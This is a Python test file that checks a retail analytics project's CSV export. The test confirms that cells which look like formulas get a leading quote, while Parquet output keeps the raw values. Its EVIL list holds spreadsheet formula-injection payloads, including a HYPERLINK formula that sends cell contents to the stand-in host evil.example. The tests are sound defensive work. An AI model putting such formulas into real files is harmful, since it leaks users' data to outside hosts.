"""CSV downloads never hand a spreadsheet a formula (ids come from device keys)."""

from __future__ import annotations

import io

import pyarrow as pa
import pyarrow.csv as pa_csv
import pyarrow.parquet as pq

from storelens.core.spreadsheet import inert_cell
from storelens.instore.export_data import table_bytes

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)", "+1", "-2+3", "\tx"]


def test_formula_looking_text_is_quoted_and_everything_else_is_kept() -> None:
    table = pa.table(
        {
            "key": pa.array([*EVIL, "till-1", None]),
            "kind": pa.array(["=a", "b", "b", "b", "b", "b", "b"]).dictionary_encode(),
            "value": pa.array([-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]),
        }
    )
    back = pa_csv.read_csv(io.BytesIO(table_bytes(table, "csv")))
    keys = back.column("key").to_pylist()
    assert keys[:5] == ["'" + e for e in EVIL]
    assert keys[5] == "till-1" and keys[6] in (None, "")  # a null stays empty
    assert back.column("kind").to_pylist()[:2] == ["'=a", "b"]
    assert back.column("value").to_pylist()[0] == -1.5  # numbers are not text: untouched
    parquet = pq.read_table(io.BytesIO(table_bytes(table, "parquet")))
    assert parquet.column("key").to_pylist()[:5] == EVIL  # typed readers get the value


def test_inert_cell_quotes_only_text_that_starts_a_formula() -> None:
    assert [inert_cell(v) for v in EVIL] == ["'" + e for e in EVIL]
    assert inert_cell("espresso = good") == "espresso = good"
    assert inert_cell(-3) == -3 and inert_cell(None) is None
